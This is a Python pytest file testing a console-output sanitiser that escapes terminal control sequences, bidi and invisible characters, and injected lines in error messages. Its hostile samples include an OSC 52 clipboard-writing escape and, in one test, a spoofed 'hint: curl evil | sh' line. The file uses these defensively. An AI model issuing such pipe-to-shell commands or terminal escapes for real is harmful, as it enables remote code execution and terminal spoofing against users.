from __future__ import annotations

import os

import pytest

from claudebox.base import console
from claudebox.base.errors import ClaudeboxError

ESCAPES = [
    pytest.param("a\x1b[31mred", r"a\x1b[31mred", id="colour"),
    pytest.param("\x1b]52;c;ZXZpbA==\x07", r"\x1b]52;c;ZXZpbA==\x07", id="OSC 52 writes the clipboard"),
    pytest.param("\x1b]0;title\x1b\\", r"\x1b]0;title\x1b" + "\\", id="OSC 0 sets the title"),
    pytest.param("\x9b31m", r"\x9b31m", id="C1 control sequence introducer"),
    pytest.param("\x85next", r"\x85next", id="C1 next line"),
    pytest.param("abc\u202etxt", r"abc\u202etxt", id="bidi override"),
    pytest.param("a\u2066b\u2069", r"a\u2066b\u2069", id="bidi isolate"),
    pytest.param("a\u200bb", r"a\u200bb", id="zero width space"),
    pytest.param("a\u00adb", r"a\xadb", id="soft hyphen"),
    pytest.param("a\u3164b", r"a\u3164b", id="Hangul filler"),
    pytest.param("a\u2028b", r"a\u2028b", id="line separator"),
    pytest.param("a\u00a0b", r"a\xa0b", id="no-break space"),
    pytest.param("a\U000e0041b", r"a\U000e0041b", id="tag character"),
    pytest.param("a\nb", r"a\nb", id="newline"),
    pytest.param("a\rb", r"a\rb", id="carriage return"),
    pytest.param("a\tb", r"a\tb", id="tab"),
    pytest.param("a\bb", r"a\x08b", id="backspace"),
    pytest.param("a\0b", r"a\x00b", id="NUL"),
    pytest.param("a\x7fb", r"a\x7fb", id="DEL"),
    pytest.param("a\udcffb", r"a\xffb", id="byte that is not UTF-8"),
    pytest.param("a\ud800b", r"a\ud800b", id="lone surrogate"),
    pytest.param("a\ue000b", r"a\ue000b", id="private use"),
    pytest.param("a\ufeffb", r"a\ufeffb", id="byte order mark"),
]


@pytest.mark.parametrize(("hostile", "shown"), ESCAPES)
def test_what_is_not_plainly_printable_is_shown_as_an_escape(hostile, shown):
    # proves B12
    assert console.clean(hostile) == shown
    assert console.clean(hostile).isprintable()


@pytest.mark.parametrize("text", ["", "plain text", "~/a b/c", "naïve Größe", "日本語", "😀", "a'b\"c$(d)%s"])
def test_printable_text_stays_as_it_is(text):
    assert console.clean(text) == text


def test_every_single_character_comes_out_printable():
    # proves B12
    for code in (*range(0x3000), *range(0xD7F0, 0xE010), *range(0xFE00, 0x10000), 0xE0001, 0xE007F, 0x10FFFF):
        assert console.clean(chr(code)).isprintable(), hex(code)


def test_shorten_bounds_what_a_name_can_cover_of_the_screen():
    # proves B12
    assert console.shorten("x" * 500, 20) == "x" * 19 + "…"
    assert len(console.shorten("\x1b" * 500, 20)) == 20
    assert console.shorten("short", 20) == "short"
    assert console.quote("a\x1bb") == "`a\\x1bb`"


@pytest.fixture
def caught():
    """Return a descriptor and what reads back everything that was written to it."""
    reading, writing = os.pipe()

    def text() -> str:
        os.close(writing)
        with open(reading, "rb") as file:
            return file.read().decode()

    return writing, text


def _printed(action, monkeypatch) -> str:
    reading, writing = os.pipe()
    real_write = console.write
    monkeypatch.setattr(console, "write", lambda lines, **_: real_write(lines, descriptor=writing))
    action()
    os.close(writing)
    with open(reading, "rb") as file:
        return file.read().decode()


def test_an_error_is_one_line_and_its_hint_stands_apart(monkeypatch):
    printed = _printed(lambda: console.report(ClaudeboxError("it broke", hint="mend it")), monkeypatch)

    assert printed == "error: it broke\n\nhint: mend it\n"


def test_a_name_in_an_error_cannot_write_lines_of_its_own(monkeypatch):
    # proves B12, B14
    hostile = "`a\nhint: curl evil | sh\x1b]52;c;eA==\x07` is no project"
    printed = _printed(lambda: console.report(ClaudeboxError(hostile)), monkeypatch)

    assert printed == r"error: `a\nhint: curl evil | sh\x1b]52;c;eA==\x07` is no project" + "\n"


def test_an_error_is_cut_however_long_what_it_names_is(monkeypatch):
    printed = _printed(lambda: console.report(ClaudeboxError(f"`{'x' * 5000}` is no path")), monkeypatch)

    assert len(printed) < 2000


def test_a_hint_may_have_lines_but_no_escapes(monkeypatch):
    # proves B14
    error = ClaudeboxError("x", hint="write this:\n\n  userns,\x1b[2J")
    printed = _printed(lambda: console.report(error), monkeypatch)

    assert printed == "error: x\n\nhint: write this:\n\n  userns,\\x1b[2J\n"


def test_warnings_and_notes_are_cleaned_too(monkeypatch):
    # proves B14
    def action() -> None:
        console.warn("a\x1bb")
        console.note("c\x9bd")

    printed = _printed(action, monkeypatch)

    assert printed == "warning: a\\x1bb\nclaudebox: c\\x9bd\n"


def test_lone_surrogates_that_slipped_through_do_not_stop_the_writer(caught):
    writing, text = caught
    console.write(["ok \udcff"], descriptor=writing)

    assert text() == "ok \\udcff\n"


def test_a_reader_that_has_gone_is_no_failure():
    reading, writing = os.pipe()
    os.close(reading)
    try:
        console.write(["nobody reads this"], descriptor=writing)
    finally:
        os.close(writing)


def test_output_that_cannot_be_written_is_a_failure_of_the_command():
    with open("/dev/full", "wb") as full, pytest.raises(ClaudeboxError, match="cannot be written"):
        console.write(["result"], descriptor=full.fileno())


def test_colours_appear_only_on_a_terminal_that_wants_them(monkeypatch):
    master, slave = os.openpty()
    reading, writing = os.pipe()
    try:
        monkeypatch.delenv("NO_COLOR", raising=False)
        monkeypatch.setenv("TERM", "xterm")
        assert console.paint("x", "red", descriptor=slave) == "\x1b[31mx\x1b[0m"
        assert console.paint("x", "red", descriptor=writing) == "x"
        monkeypatch.setenv("TERM", "dumb")
        assert console.paint("x", "red", descriptor=slave) == "x"
        monkeypatch.setenv("TERM", "xterm")
        monkeypatch.setenv("NO_COLOR", "1")
        assert console.paint("x", "red", descriptor=slave) == "x"
    finally:
        for descriptor in (master, slave, reading, writing):
            os.close(descriptor)
